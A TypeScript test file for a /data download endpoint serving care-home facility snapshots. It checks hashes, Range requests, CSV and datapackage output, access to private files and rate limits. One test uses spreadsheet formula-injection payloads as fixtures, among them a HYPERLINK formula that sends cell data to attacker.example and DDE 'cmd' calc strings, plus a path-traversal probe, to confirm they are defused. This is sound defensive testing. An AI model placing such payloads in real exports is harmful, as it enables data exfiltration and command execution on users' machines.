// /data: the index of retained snapshots, each file served byte for byte (sha256 as indexed,
// ETag, Last-Modified, Range), the listed homes as CSV with its datapackage.json, nothing
// private ever served, and the downloads' own per-address budget.
import test from 'ava';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { DOCUMENT_STORE_FILE } from '../../contract/document-store.ts';
import { OPERATOR_STORE_FILE } from '../../contract/overlay.ts';
import { META } from '../../contract/snapshot-schema.ts';
import { DEMO_SENTENCE } from '../../serve/words/wording.ts';
import { runOperatorCommand } from '../../serve/operator/cli.ts';
import { changedHomes, publishGenerations } from '../helpers/changes.ts';
import { BASE_URL, call, startServer, type TestServer } from '../helpers/server.ts';

let server: TestServer;
let dir: string;

test.before(async () => {
  ({ dir } = await changedHomes());
  // Private files beside the snapshots: none may ever be served.
  // A real operator store (an unreadable one would stop the server answering: corrections fail closed), holding a marker.
  runOperatorCommand(['mode', 'self_serve_only'], { snapshotsDir: dir, out: () => {} });
  const store = new Database(path.join(dir, OPERATOR_STORE_FILE));
  store.exec("CREATE TABLE marker (text TEXT); INSERT INTO marker VALUES ('operator store')");
  store.close();
  fs.writeFileSync(path.join(dir, DOCUMENT_STORE_FILE), 'document store');
  fs.writeFileSync(path.join(dir, 'rcfe-2030-03-01.sqlite.writing-99'), 'half written');
  fs.mkdirSync(path.join(dir, '.source-cache'));
  fs.writeFileSync(path.join(dir, '.source-cache', 'roster.csv'), 'cached source');
  server = await startServer({ snapshotsDir: dir });
});
test.after.always(async () => {
  await server?.close();
});

const get = (p: string, init?: RequestInit) => fetch(`${server.url}${p}`, init);
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

test('the index lists each retained snapshot, and the served bytes hash to what it says', async (t) => {
  const index = (await call(`${server.url}/data/index.json`)).body;
  t.deepEqual(index.snapshots.map((s: any) => s.file), ['rcfe-2030-02-05.sqlite', 'rcfe-2030-01-05.sqlite']);
  t.true(index.attribution.includes('California Department of Social Services'));
  for (const entry of index.snapshots) {
    const response = await get(`/data/${entry.file}`);
    t.is(response.status, 200);
    const bytes = Buffer.from(await response.arrayBuffer());
    t.is(sha256(bytes), entry.sha256, `${entry.file} bytes hash as indexed`);
    t.is(bytes.length, entry.bytes);
    t.is(response.headers.get('etag'), `"${entry.sha256}"`);
    t.truthy(response.headers.get('last-modified'));
    t.is(response.headers.get('accept-ranges'), 'bytes');
    const db = new Database(path.join(dir, entry.file), { readonly: true });
    t.is(entry.row_counts.facilities, db.prepare('SELECT COUNT(*) FROM facilities').pluck().get());
    t.is(entry.row_counts.change_log, db.prepare('SELECT COUNT(*) FROM change_log').pluck().get());
    t.is(entry.listed_homes, db.prepare('SELECT COUNT(*) FROM listed_homes').pluck().get());
    db.close();
    t.is(entry.downloads.sqlite, `${BASE_URL}/data/${entry.file}`);
    t.truthy(entry.run_report.licenses.total);
  }
  const first = index.snapshots[0];
  t.is((await get(`/data/${first.file}`, { headers: { 'if-none-match': `"${first.sha256}"` } })).status, 304);
});

test('a Range request returns 206 with exactly those bytes', async (t) => {
  const file = 'rcfe-2030-02-05.sqlite';
  const whole = fs.readFileSync(path.join(dir, file));
  const response = await get(`/data/${file}`, { headers: { range: 'bytes=100-1123' } });
  t.is(response.status, 206);
  t.is(response.headers.get('content-range'), `bytes 100-1123/${whole.length}`);
  t.deepEqual(Buffer.from(await response.arrayBuffer()), whole.subarray(100, 1124));
  t.is((await get(`/data/${file}`, { headers: { range: `bytes=${whole.length + 10}-` } })).status, 416);
});

test('the CSV holds the listed homes and the datapackage describes its columns, attribution and licence', async (t) => {
  const file = 'rcfe-2030-02-05';
  const csv = await call(`${server.url}/data/${file}.csv`);
  t.is(csv.status, 200);
  t.regex(csv.headers.get('content-type') ?? '', /^text\/csv/);
  const lines = csv.text.trimEnd().split('\r\n');
  const db = new Database(path.join(dir, `${file}.sqlite`), { readonly: true });
  const listed = db.prepare('SELECT license_number FROM listed_homes').pluck().all() as string[];
  db.close();
  t.is(lines.length - 1, listed.length);
  t.deepEqual(lines.slice(1).map((line) => line.split(',')[0]), listed);
  const pkg = (await call(`${server.url}/data/${file}.datapackage.json`)).body;
  t.is(pkg.profile, 'tabular-data-package');
  const [homes, snapshot] = pkg.resources;
  t.deepEqual(homes.schema.fields.map((field: any) => field.name), lines[0]!.split(','));
  t.is(homes.schema.fields.find((field: any) => field.name === 'capacity').type, 'integer');
  t.is(homes.path, `${BASE_URL}/data/${file}.csv`);
  const index = (await call(`${server.url}/data/index.json`)).body;
  t.is(snapshot.hash, `sha256:${index.snapshots[0].sha256}`);
  t.true(pkg.attribution.includes('California Department of Social Services'));
  t.is(pkg.licenses[0].path, `${BASE_URL}/terms`);
  t.regex(pkg.usage_conditions, /not on file/);
});

test('the CSV follows correction reviews and the index names each held one: a clearance under review reads not_on_file until the review closes', async (t) => {
  const { dir: own } = await publishGenerations([{ date: '2030-01-05' }]);
  const reviewed = await startServer({ snapshotsDir: own });
  try {
    const file = path.join(own, 'rcfe-2030-01-05.sqlite');
    const db = new Database(file, { readonly: true });
    const license = db.prepare("SELECT license_number FROM listed_homes WHERE dementia = 'true' LIMIT 1").pluck().get() as string;
    db.close();
    const operator = (...args: string[]) => {
      t.is(runOperatorCommand(args, { snapshotsDir: own, out: () => {} }), 0, args.join(' '));
      reviewed.app.services.overlays.refresh();
    };
    const dementiaOf = async () => {
      const reply = await call(`${reviewed.url}/data/rcfe-2030-01-05.csv`);
      const lines = reply.text.split('\r\n');
      const column = lines[0]!.split(',').indexOf('dementia');
      return { value: lines.find((line) => line.startsWith(`${license},`))!.split(',')[column], cacheControl: reply.headers.get('cache-control') };
    };
    // The SQLite file stays the published snapshot, so the index names each held review instead.
    const heldInIndex = async () => (await call(`${reviewed.url}/data/index.json`)).body.held_reviews;
    t.is((await dementiaOf()).value, 'true');
    t.deepEqual(await heldInIndex(), []);
    operator('review', 'open', license, 'dementia');
    const held = await dementiaOf();
    t.is(held.value, 'not_on_file', 'the reviewed clearance is not served');
    t.notRegex(held.cacheControl ?? '', /immutable/, 'a review must show within minutes');
    t.deepEqual(await heldInIndex(), [{ license_number: license, clearance: 'dementia' }]);
    operator('review', 'close', license, 'dementia');
    t.is((await dementiaOf()).value, 'true', 'closing the review shows the recorded value again');
    t.deepEqual(await heldInIndex(), []);
  } finally {
    await reviewed.close();
  }
});

test('each file says whether its homes are demo data: the index, the datapackage and, for the served snapshot, the feed', async (t) => {
  const { dir: own } = await publishGenerations([{ date: '2030-01-05' }, { date: '2030-02-05' }]);
  // The newest file marked as real data, the older one left as the seeds' demo data.
  const newest = new Database(path.join(own, 'rcfe-2030-02-05.sqlite'));
  newest.prepare('UPDATE metadata SET value = ? WHERE key = ?').run('false', META.demoData);
  newest.close();
  const mixed = await startServer({ snapshotsDir: own });
  try {
    const index = (await call(`${mixed.url}/data/index.json`)).body;
    t.deepEqual(index.snapshots.map((s: any) => [s.file, s.demo_data, s.demo_notice]), [
      ['rcfe-2030-02-05.sqlite', false, undefined],
      ['rcfe-2030-01-05.sqlite', true, DEMO_SENTENCE],
    ]);
    const demoPackage = (await call(`${mixed.url}/data/rcfe-2030-01-05.datapackage.json`)).body;
    t.true(demoPackage.demo_data);
    t.regex(demoPackage.title, /^Demo data/);
    t.true(demoPackage.description.startsWith(DEMO_SENTENCE));
    const realPackage = (await call(`${mixed.url}/data/rcfe-2030-02-05.datapackage.json`)).body;
    t.false(realPackage.demo_data);
    t.false(/demo/i.test(`${realPackage.title} ${realPackage.description}`));
    t.false((await call(`${mixed.url}/changes.atom`)).text.includes('demo data'), 'the served snapshot is real: the feed is not marked');
  } finally {
    await mixed.close();
  }
});

test('the CSV quotes commas, quotes and line breaks as RFC 4180 asks, so a parser reads the value back verbatim', async (t) => {
  const db = new Database(path.join(dir, 'rcfe-2030-01-05.sqlite'), { readonly: true });
  const license = db.prepare('SELECT license_number FROM listed_homes LIMIT 1').pluck().get() as string;
  db.close();
  const name = 'O\'NEILL "ROSE" HOUSE, UNIT 2\r\nANNEX';
  const { dir: own } = await publishGenerations([{ date: '2030-01-05', renamed: [{ license, name }] }]);
  const quoted = await startServer({ snapshotsDir: own });
  try {
    const text = (await call(`${quoted.url}/data/rcfe-2030-01-05.csv`)).text;
    const rows = parse(text, { columns: true, record_delimiter: '\r\n' }) as Array<Record<string, string>>;
    const row = rows.find((r) => r.license_number === license)!;
    t.is(row.licensed_name, name);
    t.is(row.name, name);
    t.true(text.includes(`"O'NEILL ""ROSE"" HOUSE, UNIT 2\r\nANNEX"`), 'quoted, inner quotes doubled');
  } finally {
    await quoted.close();
  }
});

// Issue 46, item 9: a name a spreadsheet would run as a formula is defused as OWASP describes.
test("a text cell a spreadsheet would evaluate (= + - @, tab, carriage return first) gets a leading ' and quotes; others are verbatim", async (t) => {
  const db = new Database(path.join(dir, 'rcfe-2030-01-05.sqlite'), { readonly: true });
  const licenses = db.prepare('SELECT license_number FROM listed_homes LIMIT 7').pluck().all() as string[];
  db.close();
  const names = ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', 'ROSE HOUSE - ANNEX'];
  const { dir: own } = await publishGenerations([{ date: '2030-01-05', renamed: licenses.map((license, i) => ({ license, name: names[i]! })) }]);
  const served = await startServer({ snapshotsDir: own });
  try {
    const text = (await call(`${served.url}/data/rcfe-2030-01-05.csv`)).text;
    const rows = parse(text, { columns: true, record_delimiter: '\r\n' }) as Array<Record<string, string>>;
    for (const [i, license] of licenses.entries()) {
      const row = rows.find((r) => r.license_number === license)!;
      const expected = i < 6 ? `'${names[i]}` : names[i]!;
      t.is(row.name, expected, names[i]);
      t.is(row.licensed_name, expected);
    }
    t.true(text.includes('"\'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")"'), 'defused and quoted');
    t.false(/(^|,)[=+\-@\t\r]/m.test(text.split('\r\n').map((line) => line.replace(/"[^"]*"/g, '')).join('\n')), 'no bare cell starts a formula');
    const pkg = (await call(`${served.url}/data/rcfe-2030-01-05.datapackage.json`)).body;
    t.regex(pkg.resources[0].description, /written with a ' before it/);
  } finally {
    await served.close();
  }
});

test('nothing private is ever served', async (t) => {
  for (const name of [
    OPERATOR_STORE_FILE,
    DOCUMENT_STORE_FILE,
    '.handoff-secret',
    'rcfe-2030-03-01.sqlite.writing-99',
    '.source-cache',
    '..%2Foperator.sqlite',
    '.source-cache%2Froster.csv',
    'operator.csv',
    'documents.datapackage.json',
  ]) {
    const response = await get(`/data/${name}`);
    t.is(response.status, 404, name);
    const text = await response.text();
    t.false(/operator store|document store|cached source|half written/.test(text), name);
  }
  const index = await (await get('/data/index.json')).text();
  t.false(/operator|documents\.sqlite|handoff|source-cache|writing/.test(index));
  const page = await call(`${server.url}/data`);
  t.is(page.status, 200);
  t.true(page.text.includes('rcfe-2030-01-05.sqlite'));
  t.false(page.text.includes(OPERATOR_STORE_FILE));
});

test('downloads have their own per-address budget', async (t) => {
  const limited = await startServer({ snapshotsDir: dir, downloads: { rateLimit: 2, windowMs: 60_000 } });
  try {
    t.is((await fetch(`${limited.url}/data/index.json`)).status, 200);
    t.is((await fetch(`${limited.url}/data/rcfe-2030-01-05.sqlite`, { headers: { range: 'bytes=0-9' } })).status, 206);
    const refused = await fetch(`${limited.url}/data/index.json`);
    t.is(refused.status, 429);
    t.truthy(refused.headers.get('retry-after'));
    t.regex(((await refused.json()) as { error: string }).error, /2 requests a minute per address on \/data/);
    t.is((await fetch(`${limited.url}/api/v1/changes`)).status, 200, 'the /api budgets are counted apart');
  } finally {
    await limited.close();
  }
});

test('/data carries the pages\' Content-Security-Policy: nothing framed, no inline script (issue 46, item 8)', async (t) => {
  const page = await get('/data', { headers: { accept: 'text/html' } });
  t.regex(page.headers.get('content-type') ?? '', /^text\/html/);
  const policy = page.headers.get('content-security-policy') ?? '';
  t.regex(policy, /(^|; )default-src 'none'(;|$)/);
  t.regex(policy, /(^|; )frame-ancestors 'none'(;|$)/);
  t.regex(policy, /(^|; )script-src 'self'/);
});

test('every page links the downloads from the site navigation', async (t) => {
  for (const page of ['/', '/guides', '/docs/api', '/data']) {
    const html = await (await get(page, { headers: { accept: 'text/html' } })).text();
    const nav = /<nav aria-label="Site">([\s\S]*?)<\/nav>/.exec(html)?.[1] ?? '';
    t.regex(nav, new RegExp(`<a href="${BASE_URL}/data">Data</a>`), page);
  }
});
